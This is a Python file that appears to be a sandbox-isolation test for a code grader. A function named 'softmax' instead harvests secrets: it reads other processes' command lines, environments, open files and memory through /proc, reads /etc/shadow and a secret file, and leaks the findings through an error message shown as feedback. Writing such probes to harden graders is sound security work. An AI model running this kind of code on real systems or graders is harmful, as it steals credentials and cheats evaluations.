import os
import sys
import time

# The walk over other processes is bounded whatever the machine (issue 38): its pids are those
# near its parent's and its own (at most _WALK_BELOW_PARENT + _WALK_SPAN + _WALK_ABOVE_SELF),
# a pid with no /proc entry costs one stat, and it stops itself after _WALK_CPU seconds of CPU
# (of the case's 0.5 s). It says which pids it walked, and whether it stopped early, so that the
# test asserts that the grader's were among them: what was looked at and found, not how long
# looking took. (Once it tried four opens on each of 20,000 pids below its own: its CPU time
# then depended on the pid range, the processes running and the load.)
# The grader or the batch was started before the zygote, its parent: on a busy machine other
# processes take pids meanwhile (1,412 between a batch and its zygote, two CPU hogs and six
# other test runs beside it).
_WALK_BELOW_PARENT = 20_000
_WALK_SPAN = 20_000  # between the zygote and itself: a batch's graders and the process ahead
_WALK_ABOVE_SELF = 200  # started meanwhile
_WALK_CPU = 0.3  # confined, its 20,200 pids: 0.065 s quiet, 0.12-0.13 s beside two CPU hogs (old walk: 0.28 s)
_WALK_FIRST_AFTER_WRAP = 300  # the kernel's first pid once pid_max has wrapped


def softmax(x, axis=-1):
    """Looks for the grader's secrets wherever a process might find them, and reports what it
    found in its error message (which the grader shows as feedback): its own command line and
    environment (a forked process's are its parent's), the /proc entries of the processes near
    its parent and itself (the grader's command line, environment, open files and memory), a file
    where the grader was started, /etc/shadow. (Its own memory is scanned from outside by the
    test: a scan from inside finds its own needles.)"""
    start = time.process_time()
    needles = [b"--seed", b"SECRET_SEED_VALUE", b"SECRET_ENV_VALUE", b"SECRET_PATH_VALUE"]
    found = set()

    def look(label, data):
        for n in needles:
            if n in data:
                found.add(f"{label}:{n.decode()}")

    look("argv", " ".join(sys.argv + list(getattr(sys, "orig_argv", []))).encode())
    look("environ", repr(dict(os.environ)).encode())
    walked, cut = [], False
    for pid in ["self", *_walk_order(os.getpid(), os.getppid())]:
        if _no_such_process(pid):
            walked.append(pid)  # looked at: no entry to read
            continue
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    look(f"/proc/{pid}/{name}", f.read())
            except OSError:
                pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                look(f"/proc/{pid}/fd", os.readlink(f"/proc/{pid}/fd/{fd}").encode())
        except OSError:
            pass
        if pid not in ("self", os.getpid()):  # another process's memory: the grader's, a batch's
            try:
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
                    for line in maps:
                        if time.process_time() - start > _WALK_CPU:
                            break  # in a big process's memory
                        parts = line.split()
                        lo, hi = (int(v, 16) for v in parts[0].split("-"))
                        if "r" in parts[1] and hi - lo <= 2**20 and len(parts) < 6:  # small, anonymous: Python's
                            try:
                                mem.seek(lo)
                                look(f"/proc/{pid}/mem", mem.read(hi - lo))
                            except (OSError, OverflowError, ValueError):
                                pass
            except OSError:
                pass
        if time.process_time() - start > _WALK_CPU:  # within this pid's entries: it is not walked
            cut = True
            break
        if pid != "self":
            walked.append(pid)
    try:  # a file in the directory the grader was started from
        with open("SECRET_FILE", "rb") as f:
            found.add("file:" + f.read().decode())
    except OSError:
        pass
    try:
        with open("/etc/shadow", "rb") as f:
            found.add("shadow:" + str(len(f.read())))
    except OSError:
        pass
    raise RuntimeError(f"FOUND {' '.join(sorted(found))} END WALKED {_walk_ranges(walked)}{' CUT' if cut else ''}")


def _walk_order(own: int, parent: int) -> list[int]:
    """The pids to look at, likeliest holders first: the parent and those just below it, then
    those between it and this process, then a few above; each once, across a wrap-around of the
    pid counter (at every top it may wrap at, when /proc/sys/kernel/pid_max cannot be read).
    Where /proc can be listed: only the pids it lists, and the rest of them after these."""
    try:
        with open("/proc/sys/kernel/pid_max") as f:
            tops = [int(f.read())]
    except (OSError, ValueError):
        tops = [32768, 4194304]  # the kernel's default, and systemd's
    order = []
    for top in tops:
        def ring(p):
            return _WALK_FIRST_AFTER_WRAP + (p - _WALK_FIRST_AFTER_WRAP) % (top - _WALK_FIRST_AFTER_WRAP)
        gap = (own - parent) % (top - _WALK_FIRST_AFTER_WRAP)
        order += [ring(parent - k) for k in range(_WALK_BELOW_PARENT + 1)]
        order += [ring(parent + k) for k in range(1, min(gap, _WALK_SPAN))]
        order += [ring(own + k) for k in range(1, _WALK_ABOVE_SELF + 1)]
    try:
        listed = {int(p) for p in os.listdir("/proc") if p.isdigit()}
    except OSError:
        listed = None
    seen = {own}  # its own memory holds its needles
    order = [p for p in order if not (p in seen or seen.add(p)) and (listed is None or p in listed)]
    return order + sorted((listed or set()) - seen)


def _no_such_process(pid) -> bool:
    """Whether /proc has no entry ``pid`` (the kernel says so, whoever may read it): most pids of
    the walk, which then cost one stat, not four refused opens."""
    try:
        os.stat(f"/proc/{pid}")
    except FileNotFoundError:
        return True
    except OSError:  # refused, not absent: it is tried
        pass
    return False


def _walk_ranges(pids: list[int]) -> str:
    """``"100-350 32500-32767"``: the pids walked, as sorted runs."""
    runs = []
    for p in sorted(set(pids)):
        if runs and p == runs[-1][1] + 1:
            runs[-1][1] = p
        else:
            runs.append([p, p])
    return " ".join(f"{a}-{b}" for a, b in runs) or "none"
